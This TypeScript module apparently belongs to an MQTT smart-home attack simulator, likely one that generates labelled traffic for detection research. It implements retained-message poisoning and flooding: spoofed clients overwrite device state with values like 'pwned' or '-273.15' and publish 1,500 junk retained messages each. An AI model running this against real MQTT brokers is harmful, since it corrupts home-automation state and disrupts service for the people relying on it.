// Retained poisoning: false retained messages, and very many of them.

import type { Attack } from '../attacker.js'
import { TOPIC_WORDS } from './words.js'

/** Phones subscribe to `owntracks` over TLS, which labelling cannot decode. */
const WORDS = TOPIC_WORDS.filter(word => word !== 'owntracks')

/** Overwrites retained messages and adds new ones. */
export const retained: Attack = {
  name: 'retained',
  summary:
    'retained poisoning and flood: 3 to 5 addresses overwrite retained messages of devices and add retained messages on new topics, 1,500 in total each, 50 a second',
  attackers: [3, 5],
  async run(attacker) {
    const {
      random,
      scene: { home }
    } = attacker
    const clientId = `${random.oneOf(['mqttjs', 'paho', 'mosq'])}_${random.text(10)}`
    const client = await attacker.client({ clientId, keepalive: 60 })
    if (client === null) return
    const publish = (topic: string, payload: string): void => {
      attacker.logMessage(clientId, topic, payload)
      client.publish(topic, payload, { qos: random.oneOf([0, 1]), retain: true }, () => {})
    }
    const fakes = [
      ...home
        .namesOf('switch')
        .map(name => [`${home.base}/${name}/state`, random.oneOf(['', 'UNKNOWN', 'pwned', '{"state":"OFF"}'])]),
      ...home.namesOf('tasmota').map(name => [`tele/${name}/LWT`, random.oneOf(['', 'Offline!', 'hacked'])]),
      ...home
        .namesOf('dht11')
        .map(name => [`${home.base}/${name}/temperature`, random.oneOf(['-273.15', '9999', 'NaN', ''])]),
      [`${home.zigbee}/bridge/state`, '{"state":"gone"}'],
      ['homeassistant/status', 'x']
    ]
    for (let sent = 0; sent < 1_500 && !attacker.over && client.connected; sent++) {
      if (random.chance(0.3)) {
        const [topic, payload] = random.oneOf(fakes)
        publish(topic, payload)
      } else {
        publish(`${random.oneOf(WORDS)}/${random.text(8)}/${sent}`, random.text(random.integer(1, 200)))
      }
      await attacker.pause(random.between(10, 30))
    }
    client.end(!client.connected)
  }
}
